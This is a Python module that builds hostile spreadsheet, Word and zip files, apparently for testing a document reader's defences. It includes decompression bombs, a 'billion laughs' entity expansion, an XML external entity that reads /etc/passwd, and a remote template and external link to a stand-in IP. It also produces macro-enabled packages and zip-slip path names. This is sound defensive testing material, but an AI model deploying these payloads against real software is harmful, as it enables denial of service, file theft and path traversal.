"""Files made to do harm, or that look so: each with the one word for what is wrong with it, and what reads it.

None is large: what unpacks to hundreds of megabytes is a few hundred kilobytes here. Each is made when it is asked for.
"""

import struct
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Literal
from unicodedata import normalize

from formats import letter

from kehoach_gen.office.package import Entry, join_entries, read_zip, write_zip
from kehoach_gen.office.sheet import Book, Contents, Kind, Look, Pattern, Row

Reader = Literal["sheets", "word", "zip"]
Reason = Literal[
    "ratio", "hidden_size", "nested", "entities", "outside_entity", "external_link", "macro", "outside_template", "rows", "members",
    "upward_path", "absolute_path", "reserved_name", "same_name", "name_nfd", "name_cp437", "name_unflagged",
]  # fmt: skip


@dataclass(frozen=True)
class Bomb:
    name: str
    content: bytes
    reason: Reason
    reader: Reader
    """What would open it: `read_sheets`, `read_word`, or `read_zip` for a zip of files."""
    inside: tuple[str, ...] = ()
    """For a zip whose names are at issue: how its members are truly called."""


def bombs() -> Iterator[Bomb]:
    for make in _MAKERS:
        yield make()


def workbook(*texts: str) -> bytes:
    """A good workbook of one column."""
    book = Book((Pattern("S", (30.0,), {"r": Kind((Look(),))}),))
    return book.fill(Contents({"S": [Row("r", (text,)) for text in texts or ("Đã xong",)]}, "Thử"))


# Much from little

_MEGABYTE = 2**20


def _tiled(name: str, head: bytes, piece: bytes, times: int, tail: bytes) -> Entry:
    """The entry of head + piece × times + tail, the piece deflated once."""
    crc, size = zlib.crc32(head), len(head) + len(piece) * times + len(tail)
    for _ in range(times):
        crc = zlib.crc32(piece, crc)
    packed = _flushed(head) + _flushed(piece) * times + _flushed(tail, zlib.Z_FINISH)
    return Entry(name.encode(), packed, zlib.crc32(tail, crc), size)


def _flushed(content: bytes, how: int = zlib.Z_FULL_FLUSH) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush(how)


_SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_SHEET_END = b"</sheetData></worksheet>"
_DOCUMENT = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
_ROW = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'


def _with_entry(content: bytes, entry: Entry) -> bytes:
    """The file with one member in another form."""
    members = read_zip(content, "")
    return join_entries(entry if entry.name == name.encode() else Entry.of(name, members[name]) for name in members)


_PART = "xl/worksheets/sheet1.xml"


_SHELLS: dict[Reader, tuple[Callable[[], bytes], str, bytes, bytes]] = {
    "sheets": (lambda: workbook(), _PART, _SHEET, _SHEET_END),
    "word": (lambda: letter("x"), "word/document.xml", _DOCUMENT, b"</w:body></w:document>"),
}
"""For each reader a good file, and a member of it as name, beginning and end."""


def _blanks(name: str, reader: Reader, claimed: int | None = None) -> Bomb:
    """300 MB of blanks in one member; both directories of the zip claim another size where one is given."""
    good, part, head, tail = _SHELLS[reader]
    entry = _tiled(part, head, b" " * _MEGABYTE, 300, tail)
    shown = entry if claimed is None else Entry(entry.name, entry.deflated, entry.crc, claimed)
    return Bomb(name, _with_entry(good(), shown), "ratio" if claimed is None else "hidden_size", reader)


def _rows() -> Bomb:
    entry = _tiled(_PART, _SHEET, _ROW * 1000, 2000, _SHEET_END)
    return Bomb("hai triệu hàng.xlsx", _with_entry(workbook(), entry), "rows", "sheets")


def _nested() -> Bomb:
    """Ten zips of ten zips of ten zips of ten times ten megabytes."""
    content = join_entries([_tiled("0", b"", bytes(_MEGABYTE), 10, b"")])
    for level in range(3):
        content = write_zip({f"{level}-{number}.zip": content for number in range(10)})
    return Bomb("zip trong zip.zip", content, "nested", "zip")


def _many_members() -> Bomb:
    return Bomb("100 000 tệp rỗng.zip", plain_zip({b"%d.xlsx" % number: b"" for number in range(100_000)}), "members", "zip")


# Declarations

_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
).encode()
_PASSWORDS = b"<!DOCTYPE x [<!ENTITY a9 SYSTEM 'file:///etc/passwd'>]>"


def _sheet_entities(name: str, doctype: bytes, reason: Reason) -> Bomb:
    sheet = doctype + _SHEET + _ROW.replace(b">x<", b">&a9;<") + _SHEET_END
    return Bomb(name, write_zip({**read_zip(workbook(), ""), _PART: sheet}), reason, "sheets")


def _word_entities(name: str, doctype: bytes, reason: Reason) -> Bomb:
    members = read_zip(letter("x"), "")
    document = doctype + members["word/document.xml"].replace(b">x<", b">&a9;<")
    return Bomb(name, write_zip({**members, "word/document.xml": document}), reason, "word")


# Links to the outside, programs

_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_MACRO = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def _relation(kind: str, target: str, mode: str = "") -> bytes:
    outside = ' TargetMode="External"' if mode else ""
    return f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{outside}/></Relationships>'.encode()


def _relations(kind: str, target: str) -> bytes:
    return f'<Relationships xmlns="{_PACKAGE}">'.encode() + _relation(kind, target, "External")


def _external_link() -> Bomb:
    members = read_zip(workbook("Đã xong"), "")
    links = members["xl/_rels/workbook.xml.rels"]
    to_part = _relation(f"{_RELATIONS}/externalLink", "externalLinks/externalLink1.xml")
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    link = f'<externalLink xmlns="{main}" xmlns:r="{_RELATIONS}"><externalBook r:id="rIdX"/></externalLink>'
    added = {
        "xl/_rels/workbook.xml.rels": links.replace(b"</Relationships>", to_part),
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(
            f"{_RELATIONS}/externalLinkPath", "file:///\\\\198.51.100.7\\chung\\so-lieu.xlsx"
        ),
    }
    return Bomb("liên kết ngoài.xlsx", write_zip({**members, **added}), "external_link", "sheets")


_VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2040)


def _macro_workbook() -> Bomb:
    members = read_zip(workbook("Đã xong"), "")
    links = members["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", _relation(_MACRO, "vbaProject.bin"))
    types = members["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    changed = {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": links, "xl/vbaProject.bin": _VBA}
    return Bomb("có macro.xlsm", write_zip({**members, **changed}), "macro", "sheets")


def _macro_document() -> Bomb:
    members = read_zip(letter("Đã xong"), "")
    types = members["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    links = f'<Relationships xmlns="{_PACKAGE}">'.encode() + _relation(_MACRO, "vbaProject.bin")
    changed = {"[Content_Types].xml": types, "word/_rels/document.xml.rels": links, "word/vbaProject.bin": _VBA}
    return Bomb("có macro.docm", write_zip({**members, **changed}), "macro", "word")


def _outside_template() -> Bomb:
    """A template that Word fetches when it opens the file."""
    members = read_zip(letter("Đã xong"), "")
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    settings = f'<w:settings xmlns:w="{word}" xmlns:r="{_RELATIONS}"><w:attachedTemplate r:id="rIdX"/></w:settings>'
    changed = {
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_PACKAGE}">'.encode()
        + _relation(f"{_RELATIONS}/settings", "settings.xml"),
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": _relations(f"{_RELATIONS}/attachedTemplate", "https://198.51.100.7/a.dotm"),
    }
    return Bomb("mẫu ở ngoài.docx", write_zip({**members, **changed}), "outside_template", "word")


# Names of members

_FLAG_UTF8 = 0x800


def plain_zip(members: Mapping[bytes, bytes], flags: int = 0) -> bytes:
    """A zip of stored members whose names are these very bytes (PKWARE APPNOTE 4.3), with a zip64 end where there are many."""
    pieces, directory, offset = [], [], 0
    for name, content in members.items():
        common = struct.pack("<HHHHHIIIHH", 20, flags, 0, 0, 33, zlib.crc32(content), len(content), len(content), len(name), 0)
        directory.append(b"PK\1\2" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, offset) + name)
        pieces += [b"PK\3\4" + common + name, content]
        offset += 30 + len(name) + len(content)
    index = b"".join(directory)
    count = min(len(members), 0xFFFF)
    tail = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(index), offset, 0)
    if count == 0xFFFF:
        end = struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, len(members), len(members), len(index), offset)
        tail = b"PK\6\6" + end + b"PK\6\7" + struct.pack("<IQI", 0, offset + len(index), 1) + tail
    return b"".join((*pieces, index, tail))


def _named(name: str, reason: Reason, *inside: str, coding: str = "utf-8", flags: int = _FLAG_UTF8) -> Bomb:
    """A zip of good workbooks under these names."""
    members = {member.encode(coding): workbook(f"Tệp {number}") for number, member in enumerate(inside, 1)}
    return Bomb(name, plain_zip(members, flags), reason, "zip", inside)


def _same_name() -> Bomb:
    """Two members of one name: which of them is the answer?"""
    twice = plain_zip({b"bao-cao.xlsx": workbook("một"), b"bao-cao.xlsy": workbook("hai")})
    return Bomb("hai tệp một tên.zip", twice.replace(b".xlsy", b".xlsx"), "same_name", "zip", ("bao-cao.xlsx",) * 2)


_VIETNAMESE = "Báo cáo quý III - Sở Nội vụ.xlsx"
_MAKERS: tuple[Callable[[], Bomb], ...] = (
    lambda: _blanks("300 MB dấu cách.xlsx", "sheets"),
    lambda: _blanks("300 MB dấu cách.docx", "word"),
    lambda: _blanks("nói dối cỡ tệp.xlsx", "sheets", 5000),
    lambda: _blanks("nói dối cỡ tệp.docx", "word", 5000),
    _rows,
    _nested,
    _many_members,
    lambda: _sheet_entities("một tỷ tiếng cười.xlsx", _LAUGHS, "entities"),
    lambda: _word_entities("một tỷ tiếng cười.docx", _LAUGHS, "entities"),
    lambda: _sheet_entities("đọc trộm tệp.xlsx", _PASSWORDS, "outside_entity"),
    lambda: _word_entities("đọc trộm tệp.docx", _PASSWORDS, "outside_entity"),
    _external_link,
    _macro_workbook,
    _macro_document,
    _outside_template,
    lambda: _named("đường dẫn đi lên.zip", "upward_path", "../../x.xlsx", "a/../../../y.xlsx", "..\\..\\z.xlsx"),
    lambda: _named("đường dẫn tuyệt đối.zip", "absolute_path", "/tmp/x.xlsx", "C:\\Windows\\y.xlsx", "\\\\may\\chung\\z.xlsx"),
    lambda: _named("tên Windows giữ lại.zip", "reserved_name", "CON.xlsx", "aux.docx", "a/nul.xlsx", "b.xlsx:an", "c.xlsx. "),
    _same_name,
    lambda: _named("tên tách dấu.zip", "name_nfd", normalize("NFD", _VIETNAMESE)),
    lambda: _named("tên cp437.zip", "name_cp437", "Báo cáo.xlsx", coding="cp437", flags=0),
    lambda: _named("tên UTF-8 không báo.zip", "name_unflagged", _VIETNAMESE, flags=0),
)
